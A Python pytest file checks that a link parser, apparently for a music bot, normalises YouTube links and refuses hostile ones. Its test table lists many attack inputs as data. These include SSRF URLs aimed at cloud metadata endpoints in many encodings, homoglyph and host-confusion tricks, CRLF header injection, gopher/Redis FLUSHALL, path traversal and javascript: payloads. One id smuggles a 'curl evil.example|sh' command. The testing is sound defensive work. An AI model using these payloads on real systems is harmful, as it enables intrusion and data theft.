from __future__ import annotations

import socket
from collections.abc import Callable
from contextlib import suppress
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from infra import links
from infra.errors import (
    BadLink,
    DownloadFailed,
    EndlessMix,
    ForbiddenAddress,
    HostNotAllowed,
    NotOneSong,
    PersonalList,
    UserError,
)
from infra.links import Collection, Link

ID = "dQw4w9WgXcQ"
VIDEO = Link("youtube", url=f"https://www.youtube.com/watch?v={ID}", id=ID)


@pytest.mark.parametrize(
    "text",
    [
        f"https://www.youtube.com/watch?v={ID}",
        f"http://youtube.com/watch?v={ID}",
        f"  https://m.youtube.com/watch?v={ID}\n",
        f"https://music.youtube.com/watch?v={ID}&si=abc",
        f"https://www.youtube.com/watch?v={ID}&list=PLx&index=3&t=42s",
        f"https://www.youtube.com/watch?list=PLx&v={ID}#t=1",
        f"https://www.youtube.com/watch?app=desktop&v={ID}&feature=youtu.be",
        f"https://www.youtube.com/watch?v={ID}?t=5",
        f"https://www.youtube.com/?v={ID}",
        f"https://www.youtube.com/watch/{ID}",
        f"https://youtu.be/{ID}",
        f"https://youtu.be/{ID}?si=abc&t=3",
        f"https://youtu.be/watch?v={ID}",
        f"https://www.youtube.com/shorts/{ID}?feature=share",
        f"https://www.youtube.com/live/{ID}",
        f"https://www.youtube.com/embed/{ID}?autoplay=1",
        f"https://www.youtube-nocookie.com/embed/{ID}",
        f"https://www.youtube.com/v/{ID}",
        f"https://www.youtube.com/e/{ID}",
        f"HTTPS://WWW.YOUTUBE.COM/watch?v={ID}",
        f"https://www.youtube.com.:443/watch?v={ID}",
        f"www.youtube.com/watch?v={ID}",
        f"youtu.be/{ID}",
        f"//youtube.com/watch?v={ID}",
    ],
)
def test_every_shape_of_a_youtube_link_is_its_video(text: str) -> None:
    assert links.parse(text, ()) == VIDEO


@pytest.mark.parametrize(
    ("text", "what"),
    [
        ("https://www.youtube.com/playlist?list=PLx", "playlist"),
        ("https://www.youtube.com/watch?list=PLx", "playlist"),
        ("https://www.youtube.com/embed/videoseries?list=PLx", "playlist"),
        ("https://music.youtube.com/browse/MPREb_x", "playlist"),
        ("https://www.youtube.com/@somebody", "channel"),
        ("https://www.youtube.com/@somebody/videos", "channel"),
        ("https://www.youtube.com/channel/UCuAXFkgsw1L7xaCfnd5JJOw", "channel"),
        ("https://www.youtube.com/c/somebody", "channel"),
        ("https://www.youtube.com/user/somebody", "channel"),
        ("https://www.youtube.com/embed/live_stream?channel=UCx", "channel"),
    ],
)
def test_what_holds_many_videos_is_not_one_song(text: str, what: str) -> None:
    with pytest.raises(NotOneSong, match=what):
        links.parse(text, ())


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "hello",
        "a song by somebody",
        ID,
        "https://",
        "https:///watch",
        "https://www.youtube.com/",
        "https://www.youtube.com/watch?v=short",
        f"https://www.youtube.com/watch?v={ID}x",
        "https://www.youtube.com/watch?v=..%2F..%2Fetc%2Fpass",
        f"ftp://www.youtube.com/watch?v={ID}",
        "/etc/passwd",
        "mailto:a@b.example",
        f"https://www.youtube.com/watch?v={ID} https://example.com",
        f"https://www.youtube.com:99999/watch?v={ID}",
        f"https://www.youtube.com:0/watch?v={ID}",
        "https://1.2.3.4.5/",
        "https://1.1.1.256/",
        "https://exa mple.com/",
        "https://a..example.com/",
        "upload:",
        "upload:a/b",
        "\ud800",
    ],
)
def test_what_is_no_link_is_said_to_be_none(text: str) -> None:
    with pytest.raises(BadLink):
        links.parse(text, ("example.com", "10.0.0.1"))


def test_a_message_repeats_neither_a_password_nor_control_characters_nor_a_very_long_link() -> None:
    for text in ("https://me:secret@youtube.com/watch", "me:secret@youtube.com", "https://x/\x1b[2J" + "y" * 5000):
        with pytest.raises(BadLink) as caught:
            links.parse(text, ())
        assert "secret" not in str(caught.value)
        assert str(caught.value).isprintable()
        assert len(str(caught.value)) < 150


# --- links that want more than a song ---------------------------------------------------------

INSIDE = "http://169.254.169.254/latest/meta-data/"
EVIL = "evil.example"

# What each tries, the link, and what becomes of it: an error, or the video that it names and nothing else.
HOSTILE: list[tuple[str, str, type[UserError] | Link]] = [
    ("a user that looks like the host", f"https://www.youtube.com@10.0.0.1/watch?v={ID}", BadLink),
    ("a user and a password", f"https://www.youtube.com:443@{EVIL}/watch?v={ID}", BadLink),
    ("a user of YouTube", f"https://somebody@www.youtube.com/watch?v={ID}", BadLink),
    ("an empty user", f"https://@www.youtube.com/watch?v={ID}", BadLink),
    ("two at signs", f"https://a@www.youtube.com@{EVIL}/watch?v={ID}", BadLink),
    ("an encoded at sign in the host", f"https://www.youtube.com%40{EVIL}/watch?v={ID}", BadLink),
    ("a fullwidth at sign", f"https://www.youtube.com＠{EVIL}/watch?v={ID}", BadLink),
    ("a backslash before the at sign", f"https://10.0.0.1\\@www.youtube.com/watch?v={ID}", BadLink),
    ("a backslash for a slash", f"https://{EVIL}\\.youtube.com/watch?v={ID}", BadLink),
    ("backslashes for the scheme's slashes", f"https:\\\\www.youtube.com/watch?v={ID}", BadLink),
    ("a fullwidth slash in the host", f"https://{EVIL}／.youtube.com/watch?v={ID}", BadLink),
    ("a fullwidth question mark in the host", f"https://{EVIL}？.youtube.com/watch?v={ID}", BadLink),
    ("a care-of sign, which is a slash in disguise", f"https://{EVIL}℀.youtube.com/watch?v={ID}", BadLink),
    ("a fragment before the real host", f"https://{EVIL}#@www.youtube.com/watch?v={ID}", HostNotAllowed),
    ("a query before the real host", f"https://{EVIL}?@www.youtube.com/watch?v={ID}", HostNotAllowed),
    ("a semicolon before the real host", f"https://{EVIL};www.youtube.com/watch?v={ID}", BadLink),
    ("YouTube as a subdomain", f"https://www.youtube.com.{EVIL}/watch?v={ID}", HostNotAllowed),
    ("YouTube as an ending without a dot", f"https://notyoutube.com/watch?v={ID}", HostNotAllowed),
    ("YouTube as a beginning", f"https://youtube.community/watch?v={ID}", HostNotAllowed),
    ("YouTube as a path", f"https://{EVIL}/www.youtube.com/watch?v={ID}", HostNotAllowed),
    ("YouTube as a query", f"https://{EVIL}/?u=https://www.youtube.com/watch?v={ID}", HostNotAllowed),
    ("the short host as a subdomain", f"https://youtu.be.{EVIL}/{ID}", HostNotAllowed),
    ("another country's ending", f"https://www.youtube.co/watch?v={ID}", HostNotAllowed),
    ("a mirror of YouTube that yt-dlp knows", f"https://yewtu.be/watch?v={ID}", HostNotAllowed),
    ("an o from another alphabet", f"https://www.yоutube.com/watch?v={ID}", HostNotAllowed),
    ("the same in Punycode", f"https://www.xn--yutube-wqf.com/watch?v={ID}", HostNotAllowed),
    ("a u with dots", f"https://www.yoütube.com/watch?v={ID}", HostNotAllowed),
    ("an invisible joiner in the name", f"https://www.you\u200dtube.com/watch?v={ID}", BadLink),
    ("a soft hyphen in the name", f"https://www.you\u00adtube.com/watch?v={ID}", BadLink),
    ("a name written from right to left", f"https://\u202emoc.ebutuoy.www/watch?v={ID}", BadLink),
    ("fullwidth letters", f"https://ｗｗｗ.ｙｏｕｔｕｂｅ.com/watch?v={ID}", VIDEO),
    ("an ideographic full stop", f"https://www。youtube。com/watch?v={ID}", VIDEO),
    ("a trailing dot", f"https://www.youtube.com./watch?v={ID}", VIDEO),
    ("two trailing dots", f"https://www.youtube.com../watch?v={ID}", BadLink),
    ("a trailing dot behind a private name", "http://localhost./", ForbiddenAddress),
    ("a line break and a header", f"https://www.youtube.com/watch?v={ID}\r\nHost: {EVIL}", BadLink),
    ("a line break in the host", f"https://www.youtube.com\r\n.{EVIL}/watch?v={ID}", BadLink),
    ("an encoded line break and a header", f"https://www.youtube.com/watch?v={ID}%0d%0aHost:%20{EVIL}", VIDEO),
    ("an encoded line break in the host", f"https://{EVIL}%0d%0a.youtube.com/watch?v={ID}", BadLink),
    ("a line separator", f"https://www.youtube.com/watch?v={ID}\u2028Host: {EVIL}", BadLink),
    ("a NUL at the end", f"https://www.youtube.com/watch?v={ID}\x00", BadLink),
    ("a NUL in the host", f"https://{EVIL}\x00.youtube.com/watch?v={ID}", BadLink),
    ("an encoded NUL in the host", f"https://{EVIL}%00.youtube.com/watch?v={ID}", BadLink),
    ("a tab in the host", f"https://www.you\ttube.com/watch?v={ID}", BadLink),
    ("a tab in the scheme", "java\tscript:alert(1)", BadLink),
    ("an escape sequence for the terminal", f"https://www.youtube.com/\x1b]0;{EVIL}\x07?v={ID}", BadLink),
    ("a dot in percent", "https://127%2e0.0.1/", BadLink),
    ("a whole address in percent", "http://%31%32%37%2e%30%2e%30%2e%31/", BadLink),
    ("a path that climbs", f"https://www.youtube.com/../../watch?v={ID}", BadLink),
    ("an id that climbs", "https://www.youtube.com/watch?v=../../../etc", BadLink),
    ("an id that climbs in percent", "https://www.youtube.com/watch?v=..%2F..%2Fetc%2Fpass", BadLink),
    ("an id that is an option", "https://www.youtube.com/watch?v=--exec%20rm%20-rf", BadLink),
    ("a shell behind the id", f"https://www.youtube.com/watch?v={ID};curl%20{EVIL}|sh", VIDEO),
    ("SQL behind the id", f"https://www.youtube.com/watch?v={ID}'%20OR%20'1'='1", VIDEO),
    ("a host as one more parameter", f"https://www.youtube.com/watch?v={ID}&url={INSIDE}", VIDEO),
    ("another video as one more id", f"https://www.youtube.com/watch?v={ID}&v=..%2F..%2Fetc%2Fp", VIDEO),
    ("YouTube's own redirect", f"https://www.youtube.com/redirect?q={quote(INSIDE, safe='')}", BadLink),
    ("YouTube's sign-in with a way back", f"https://www.youtube.com/signin?next=%2F%2F{EVIL}", BadLink),
    ("YouTube's consent page with a way back", f"https://consent.youtube.com/m?continue=https://{EVIL}", BadLink),
    ("YouTube's oEmbed of another host", f"https://www.youtube.com/oembed?url={INSIDE}", BadLink),
    ("an open redirect elsewhere", f"https://www.google.com/url?q={INSIDE}", HostNotAllowed),
    ("the metadata of AWS and others", INSIDE, ForbiddenAddress),
    ("the metadata of AWS over IPv6", "http://[fd00:ec2::254]/latest/meta-data/", ForbiddenAddress),
    ("the metadata of Google", "http://metadata.google.internal/computeMetadata/v1/", ForbiddenAddress),
    ("the metadata of Azure", "http://168.63.129.16/metadata/instance", ForbiddenAddress),
    ("the metadata of Alibaba", "http://100.100.100.200/latest/meta-data/", ForbiddenAddress),
    ("the metadata as one number", "http://2852039166/", ForbiddenAddress),
    ("the metadata in octal", "http://0251.0376.0251.0376/", ForbiddenAddress),
    ("the metadata in hex", "http://0xa9fea9fe/", ForbiddenAddress),
    ("the metadata in hex, by parts", "http://0xa9.0xfe.0xa9.0xfe/", ForbiddenAddress),
    ("the metadata in mixed spellings", "http://169.0376.0xa9fe/", ForbiddenAddress),
    ("an octal number that overflows", "http://0400.0.0.1/", BadLink),
    ("a decimal number that overflows", "http://4294967296/", BadLink),
    ("zero", "http://0/", ForbiddenAddress),
    ("the machine itself, short", "http://127.1/", ForbiddenAddress),
    ("the machine itself, fullwidth", "http://１２７.０.０.１/", ForbiddenAddress),
    ("the machine itself, circled digits", "http://①②⑦.⓪.⓪.①/", ForbiddenAddress),
    ("the machine itself, mapped into IPv6", "http://[::ffff:127.0.0.1]/", ForbiddenAddress),
    ("the same in hex", "http://[::ffff:7f00:1]/", ForbiddenAddress),
    ("the machine itself, written out", "http://[0:0:0:0:0:0:0:1]/", ForbiddenAddress),
    ("an address behind NAT64", "http://[64:ff9b::7f00:1]/", ForbiddenAddress),
    ("an address behind 6to4", "http://[2002:7f00:1::]/", ForbiddenAddress),
    ("an address of this link with its zone", "https://[fe80::1%25eth0]/", BadLink),
    ("an address that does not end", "https://[::1", BadLink),
    ("a name for the machine itself that others own", "http://127.0.0.1.nip.io/", HostNotAllowed),
    ("an allowed host as a user", f"https://media.example.com@{EVIL}/", BadLink),
    ("an allowed host as a subdomain", f"https://media.example.com.{EVIL}/", HostNotAllowed),
    ("a subdomain of an allowed host", "https://internal.media.example.com/", HostNotAllowed),
    ("a file of this machine", "file:///etc/passwd", BadLink),
    ("a file under YouTube's name", "file://www.youtube.com/etc/passwd", BadLink),
    ("a script", "javascript:alert(1)", BadLink),
    ("a script that looks like a host", "javascript://www.youtube.com/%0aalert(1)", BadLink),
    ("a document in the link", "data:text/html,<script>alert(1)</script>", BadLink),
    ("a Redis server", "gopher://127.0.0.1:6379/_FLUSHALL", BadLink),
    ("a dictionary server", "dict://127.0.0.1:11211/stats", BadLink),
    ("a directory server", "ldap://127.0.0.1/o=", BadLink),
    ("a view of the source", f"view-source:https://www.youtube.com/watch?v={ID}", BadLink),
    ("a search that yt-dlp would do", "ytsearch100:anything", BadLink),
    ("a scheme within a scheme", f"https://https://{EVIL}/", HostNotAllowed),
    ("somebody's upload by a path", "upload:../../etc/passwd", BadLink),
    ("an upload by a path in percent", "upload:..%2f..%2fetc%2fpasswd", BadLink),
    ("an upload on another host", f"upload://{EVIL}/x", BadLink),
    ("a huge query", f"https://www.youtube.com/watch?v={ID}&x=" + "x" * 3000, BadLink),
    ("a huge host", "https://" + "a." * 900 + "youtube.com/", BadLink),
    ("a label that is too long", f"https://{'a' * 64}.youtube.com/watch?v={ID}", BadLink),
    ("a thousand parameters", f"https://www.youtube.com/watch?{'a&' * 900}v={ID}", VIDEO),
    ("a port of an internal service", f"https://www.youtube.com:6379/watch?v={ID}", VIDEO),
    ("another language's text direction in the path", f"https://www.youtube.com/\u202e/watch?v={ID}", BadLink),
]


@pytest.mark.parametrize(("text", "outcome"), [row[1:] for row in HOSTILE], ids=[what for what, _, _ in HOSTILE])
def test_a_hostile_link_gets_nothing_but_a_sentence_or_the_video_it_names(
    text: str, outcome: type[UserError] | Link
) -> None:
    allowed = ("media.example.com",)
    if isinstance(outcome, Link):
        assert links.parse(text, allowed) == outcome
        return
    with pytest.raises(outcome) as caught:
        links.parse(text, allowed)
    assert type(caught.value) is outcome
    assert str(caught.value).isprintable()
    with suppress(UserError):
        assert links.collection(text) is None


def test_the_table_of_hostile_links_is_a_large_one() -> None:
    assert len({text for _, text, _ in HOSTILE}) == len(HOSTILE) >= 60


# --- other hosts ------------------------------------------------------------------------------


def test_other_hosts_are_taken_only_if_they_are_allowed() -> None:
    text = "https://media.example.com/Songs/my song.mp3".replace(" ", "%20")
    with pytest.raises(HostNotAllowed, match=r"media\.example\.com"):
        links.parse(text, ("example.com", "*.example.com", "other.example.com"))
    assert links.parse(text, ("other.example.com", "media.example.com")) == Link("web", url=text)


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("HTTP://Media.Example.COM", "http://media.example.com/"),
        ("media.example.com/a.mp3", "https://media.example.com/a.mp3"),
        ("https://media.example.com:443/a.mp3#end", "https://media.example.com/a.mp3"),
        ("http://media.example.com:8080/a.mp3?b=c&d=é", "http://media.example.com:8080/a.mp3?b=c&d=%C3%A9"),
        ("https://media.example.com./a.mp3", "https://media.example.com/a.mp3"),
        ("https://ＭＥＤＩＡ.example.com/a.mp3", "https://media.example.com/a.mp3"),
    ],
)
def test_a_link_to_an_allowed_host_has_one_spelling(text: str, url: str) -> None:
    assert links.parse(text, ("media.example.com",)).url == url


def test_an_allowed_port_is_the_only_one() -> None:
    assert links.parse("http://media.example.com:8080/", ("media.example.com:8080",)).kind == "web"
    for elsewhere in ("http://media.example.com/", "http://media.example.com:8081/", "https://media.example.com/"):
        with pytest.raises(HostNotAllowed):
            links.parse(elsewhere, ("media.example.com:8080",))


PRIVATE = [
    "127.0.0.1",
    "127.8.9.10",
    "localhost",
    "LOCALHOST.",
    "music.localhost",
    "0.0.0.0",
    "0",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.1.1",
    "169.254.169.254",
    "metadata.google.internal",
    "printer.local",
    "100.64.0.1",
    "100.100.100.200",
    "168.63.129.16",
    "192.0.0.1",
    "198.18.0.1",
    "224.0.0.1",
    "240.0.0.1",
    "255.255.255.255",
    "2130706433",
    "0x7f000001",
    "0x7f.1",
    "127.1",
    "0177.0.0.1",
    "017700000001",
    "１２７.０.０.１",
    "127。0。0。1",
    "[::1]",
    "[::]",
    "[fe80::1]",
    "[fec0::1]",
    "[fc00::1]",
    "[fd00:ec2::254]",
    "[ff02::1]",
    "[::ffff:127.0.0.1]",
    "[::ffff:a9fe:a9fe]",
    "[::127.0.0.1]",
    "[64:ff9b::10.0.0.1]",
    "[64:ff9b:1::10.0.0.1]",
    "[2002:7f00:1::]",
    "[2001:0:a00:1::]",
    "[2001:db8::1]",
]


@pytest.mark.parametrize("host", PRIVATE)
def test_private_addresses_are_refused_in_every_spelling(host: str) -> None:
    for port in ("", ":8080"):
        with pytest.raises(ForbiddenAddress):
            links.parse(f"http://{host}{port}/latest/meta-data", ("media.example.com", "10.9.9.9"))


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("127.0.0.1:8080", "127.0.0.1:8080"),
        ("127.0.0.1:8080", "127.0.0.1"),
        ("0x7f.1:8080", "127.0.0.1:8080"),
        ("[::ffff:127.0.0.1]:8080", "127.0.0.1:8080"),
        ("127.0.0.1:8080", "localhost"),
        ("[::1]:8080", "localhost:8080"),
        ("localhost:8080", "localhost:8080"),
        ("10.0.0.1:8080", "10.0.0.1"),
        ("[fd00::1]:8080", "fd00::1"),
        ("[fd00::1]:8080", "[fd00:0::1]:8080"),
    ],
)
def test_a_private_address_is_taken_if_it_is_named_itself(host: str, allowed: str) -> None:
    assert links.parse(f"http://{host}/a.mp3", ("media.example.com", allowed)).kind == "web"


@pytest.mark.parametrize(
    ("host", "allowed"),
    [
        ("127.0.0.1:8081", "127.0.0.1:8080"),
        ("127.0.0.2:8080", "127.0.0.1:8080"),
        ("10.0.0.1:8080", "localhost"),
        ("10.0.0.1:8080", "media.example.com"),
    ],
)
def test_a_private_address_is_refused_if_another_is_named(host: str, allowed: str) -> None:
    with pytest.raises(ForbiddenAddress):
        links.parse(f"http://{host}/a.mp3", (allowed,))


def test_a_public_address_is_a_host_like_others() -> None:
    with pytest.raises(HostNotAllowed, match=r"1\.1\.1\.1"):
        links.parse("http://0x01010101/", ())
    assert links.parse("http://0x01010101/", ("1.1.1.1",)).url == "http://1.1.1.1/"


def test_an_upload_is_its_key() -> None:
    link = links.parse("upload:upload-0a1b", ())
    assert (link.kind, link.key, link.canonical) == ("upload", "upload-0a1b", "upload:upload-0a1b")


# --- playlists and channels -------------------------------------------------------------------

LIST = "PLrAXtmErZgOeiKm4sgNOknGvNjby9efdf"
PLAYLIST = Collection("playlist", f"https://www.youtube.com/playlist?list={LIST}", LIST)
CHANNEL_ID = "UCuAXFkgsw1L7xaCfnd5JJOw"
CHANNEL = Collection("channel", f"https://www.youtube.com/channel/{CHANNEL_ID}", CHANNEL_ID)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        (f"https://www.youtube.com/playlist?list={LIST}", PLAYLIST),
        (f"http://m.youtube.com/playlist?list={LIST}&si=abc", PLAYLIST),
        (f"https://music.youtube.com/playlist?list={LIST}", PLAYLIST),
        (f"https://music.youtube.com/browse/VL{LIST}", PLAYLIST),
        (f"https://www.youtube.com/watch?v={ID}&list={LIST}&index=3", PLAYLIST),
        (f"https://www.youtube.com/watch?list={LIST}", PLAYLIST),
        (f"https://youtu.be/{ID}?list={LIST}", PLAYLIST),
        (f"https://www.youtube.com/embed/videoseries?list={LIST}", PLAYLIST),
        (f"  youtube.com/playlist?list={LIST}\n", PLAYLIST),
        (f"https://www.youtube.com/channel/{CHANNEL_ID}", CHANNEL),
        (f"https://www.youtube.com/channel/{CHANNEL_ID}/videos", CHANNEL),
        (f"https://music.youtube.com/channel/{CHANNEL_ID}", CHANNEL),
        (f"https://music.youtube.com/browse/{CHANNEL_ID}", CHANNEL),
        (
            "https://m.youtube.com/@somebody/videos?view=0",
            Collection("channel", "https://www.youtube.com/@somebody", "@somebody"),
        ),
        (
            "https://www.youtube.com/@%E6%AD%8C%E6%89%8B",
            Collection("channel", "https://www.youtube.com/@%E6%AD%8C%E6%89%8B", "@歌手"),
        ),
        (
            "https://www.youtube.com/@歌手/featured",
            Collection("channel", "https://www.youtube.com/@%E6%AD%8C%E6%89%8B", "@歌手"),
        ),
        (
            "https://www.youtube.com/c/some.body",
            Collection("channel", "https://www.youtube.com/c/some.body", "c/some.body"),
        ),
        (
            "https://www.youtube.com/user/somebody/videos",
            Collection("channel", "https://www.youtube.com/user/somebody", "user/somebody"),
        ),
        (
            "https://music.youtube.com/browse/MPREb_gTAcphH99wE",
            Collection("playlist", "https://music.youtube.com/browse/MPREb_gTAcphH99wE", "MPREb_gTAcphH99wE"),
        ),
        (
            "https://music.youtube.com/playlist?list=RDCLAK5uy_kb7EBi6y3GrtJri4_ZH56Ms786DFEimbM",
            Collection(
                "playlist",
                "https://www.youtube.com/playlist?list=RDCLAK5uy_kb7EBi6y3GrtJri4_ZH56Ms786DFEimbM",
                "RDCLAK5uy_kb7EBi6y3GrtJri4_ZH56Ms786DFEimbM",
            ),
        ),
    ],
)
def test_every_shape_of_a_list_is_one_collection(text: str, found: Collection) -> None:
    assert links.collection(text) == found


@pytest.mark.parametrize(
    "text",
    [
        f"https://www.youtube.com/watch?v={ID}",
        f"https://youtu.be/{ID}",
        "https://www.youtube.com/feed/trending",
        f"https://media.example.com/playlist?list={LIST}",
        f"https://www.youtube.com.evil.example/playlist?list={LIST}",
        "upload:upload-0a1b",
    ],
)
def test_what_holds_no_list_is_none(text: str) -> None:
    assert links.collection(text) is None


@pytest.mark.parametrize(
    ("text", "error"),
    [
        (f"https://www.youtube.com/watch?v={ID}&list=RD{ID}&start_radio=1", EndlessMix),
        (f"https://music.youtube.com/playlist?list=RDAMVM{ID}", EndlessMix),
        ("https://music.youtube.com/browse/VLRDAMPLx", EndlessMix),
        ("https://www.youtube.com/playlist?list=WL", PersonalList),
        ("https://music.youtube.com/playlist?list=LM", PersonalList),
        ("https://www.youtube.com/playlist?list=RDMM", PersonalList),
        ("https://www.youtube.com/playlist?list=../../feed/history", BadLink),
        (f"https://www.youtube.com/playlist?list={LIST}%26v=x", BadLink),
        (f"https://www.youtube.com/playlist?list={LIST * 9}", BadLink),
        ("https://music.youtube.com/browse/FEmusic_home", BadLink),
        ("https://www.youtube.com/channel/somebody", BadLink),
        ("https://www.youtube.com/@", BadLink),
        ("https://www.youtube.com/@../feed", BadLink),
        ("https://www.youtube.com/@a%2F..%2Ffeed", BadLink),
        ("https://www.youtube.com/@a%0d%0ab", BadLink),
        ("https://www.youtube.com/@a%ff", BadLink),
        ("https://www.youtube.com/c/..", BadLink),
        (f"https://www.youtube.com/user/{'a' * 101}", BadLink),
        (f"ftp://www.youtube.com/playlist?list={LIST}", BadLink),
        (f"https://www.youtube.com@10.0.0.1/playlist?list={LIST}", BadLink),
    ],
)
def test_a_list_that_cannot_be_fetched_as_a_whole_is_refused(text: str, error: type[UserError]) -> None:
    with pytest.raises(error) as caught:
        links.collection(text)
    assert type(caught.value) is error


# --- names and the addresses behind them ------------------------------------------------------


@pytest.fixture
def names(monkeypatch: pytest.MonkeyPatch) -> Callable[..., None]:
    """Say to which addresses a name leads."""

    def lead(*addresses: str) -> None:
        def getaddrinfo(host: str, port: int, **_: Any) -> list[Any]:
            return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port)) for address in addresses]

        monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)

    return lead


def test_a_name_leads_to_its_public_addresses(names: Callable[..., None]) -> None:
    names("93.184.215.14", "2606:2800:21f:cb07::1", "64:ff9b::1.1.1.1")
    found = links.resolve("media.example.com", 443, ("media.example.com",))
    assert [str(address) for address in found] == ["93.184.215.14", "2606:2800:21f:cb07::1", "64:ff9b::101:101"]


@pytest.mark.parametrize(
    "address", ["10.0.0.1", "127.0.0.1", "::1", "fe80::1%eth0", "169.254.169.254", "::ffff:10.0.0.1"]
)
def test_one_private_address_behind_a_name_is_enough_to_refuse_it(names: Callable[..., None], address: str) -> None:
    names("93.184.215.14", address)
    with pytest.raises(ForbiddenAddress, match=r"media\.example\.com \("):
        links.resolve("media.example.com", 443, ("media.example.com",))


def test_a_private_address_behind_a_name_is_taken_if_it_is_named_itself(names: Callable[..., None]) -> None:
    names("10.0.0.1")
    assert links.resolve("media.example.com", 8080, ("media.example.com", "10.0.0.1:8080"))
    with pytest.raises(ForbiddenAddress):
        links.resolve("media.example.com", 443, ("media.example.com", "10.0.0.1:8080"))


def test_a_name_without_addresses_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    def getaddrinfo(*_: Any, **__: Any) -> list[Any]:
        raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    with pytest.raises(DownloadFailed, match=r"nowhere\.example"):
        links.resolve("nowhere.example", 443, ("nowhere.example",))


# --- any text at all --------------------------------------------------------------------------

ALLOWED = ("media.example.com", "127.0.0.1:8080", "[fd00::1]", "localhost:99999", "", "a b", "[", ":80")
PIECES = st.sampled_from(
    "https:// http:// // youtube.com youtu.be media.example.com 127.0.0.1 [fd00::1] 0x upload: / ?v= &list= @ : :8080 "
    f"\\ % # . .. [ ] {ID} watch shorts/ playlist? channel/ @x browse/VL PLx /c/ é ١ ß ℀".split(" ")
)
TEXTS = st.one_of(st.text(), st.lists(st.one_of(PIECES, st.text(max_size=3)), max_size=12).map("".join))


@given(TEXTS)
def test_any_text_is_a_link_or_a_sentence(text: str) -> None:
    try:
        link = links.parse(text, ALLOWED)
    except UserError:
        return
    assert links.parse(link.canonical, ALLOWED) == link
    if link.kind == "youtube":
        assert len(link.id) == 11
        assert link.url == f"https://www.youtube.com/watch?v={link.id}"
    if link.kind == "web":
        assert httpx.URL(link.url).host in ("media.example.com", "127.0.0.1", "fd00::1")


@given(TEXTS)
def test_any_text_is_a_collection_or_none_or_a_sentence(text: str) -> None:
    try:
        found = links.collection(text)
    except UserError:
        return
    if found is not None:
        assert links.collection(found.url) == found
        assert httpx.URL(found.url).host in ("www.youtube.com", "music.youtube.com")
        with pytest.raises(NotOneSong, match=found.kind):
            links.parse(found.url, ALLOWED)


IDS = st.from_regex(r"[A-Za-z0-9_-]{11}", fullmatch=True).filter(lambda id: id not in ("videoseries", "live_stream"))
SHAPES = [
    *(
        f"{host}{path}"
        for host in ("https://www.youtube.com", "http://youtube.com", "m.youtube.com", "https://music.youtube.com")
        for path in ("/watch?v={id}&", "/watch?{more}&v={id}&", "/watch/{id}?", "/shorts/{id}?", "/live/{id}?")
    ),
    *(f"https://www.youtube-nocookie.com/{player}/{{id}}?" for player in ("embed", "v", "e")),
    "https://youtu.be/{id}?",
    "youtu.be/{id}?",
    "HTTPS://YouTu.Be/{id}?",
    "//www.youtube.com/watch?v={id}&",
]
WORDS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)  # half a character cannot be written as UTF-8
NAMES = st.sampled_from(["list", "t", "si", "index", "pp", "feature", "ab_channel", "app", "url"]) | WORDS
PARAMETERS = st.lists(st.tuples(NAMES.filter(lambda name: name != "v"), WORDS), max_size=4)


def written(parameters: list[tuple[str, str]]) -> str:
    return "&".join(f"{quote(part, safe='')}={quote(value, safe='')}" for part, value in parameters)


@given(IDS, st.sampled_from(SHAPES), PARAMETERS, PARAMETERS)
def test_any_id_in_any_shape_with_any_parameters_is_the_same_link(
    id: str, shape: str, before: list[tuple[str, str]], behind: list[tuple[str, str]]
) -> None:
    text = shape.format(id=id, more=written(before)) + written(behind)
    assert links.parse(text, ()) == Link("youtube", url=f"https://www.youtube.com/watch?v={id}", id=id)


@given(st.from_regex(r"(PL|UU|OLAK5uy_|FL)[A-Za-z0-9_-]{10,34}", fullmatch=True), PARAMETERS)
def test_any_list_in_any_shape_with_any_parameters_is_the_same_collection(
    id: str, parameters: list[tuple[str, str]]
) -> None:
    more = written([(name, value) for name, value in parameters if name != "list"])
    shapes = (
        f"https://www.youtube.com/playlist?list={id}&{more}",
        f"https://music.youtube.com/playlist?{more}&list={id}",
        f"m.youtube.com/watch?v={ID}&list={id}&{more}",
        f"https://youtu.be/{ID}?{more}&list={id}",
        f"https://music.youtube.com/browse/VL{id}?{more}",
    )
    found = {links.collection(shape) for shape in shapes}
    assert found == {Collection("playlist", f"https://www.youtube.com/playlist?list={id}", id)}


@given(st.ip_addresses(v=4))
def test_an_ipv4_address_is_the_same_in_each_spelling(address: Any) -> None:
    def outcome(host: str) -> str:
        try:
            return links.parse(f"http://{host}/", ("1.1.1.1",)).url
        except UserError as error:
            return f"{type(error).__name__} {error}"

    packed = address.packed
    spellings = [
        str(int(address)),
        hex(int(address)),
        ".".join(f"0{part:o}" for part in packed),
        f"{packed[0]}.{int(address) % 2**24}",
    ]
    assert {outcome(spelling) for spelling in spellings} == {outcome(str(address))}
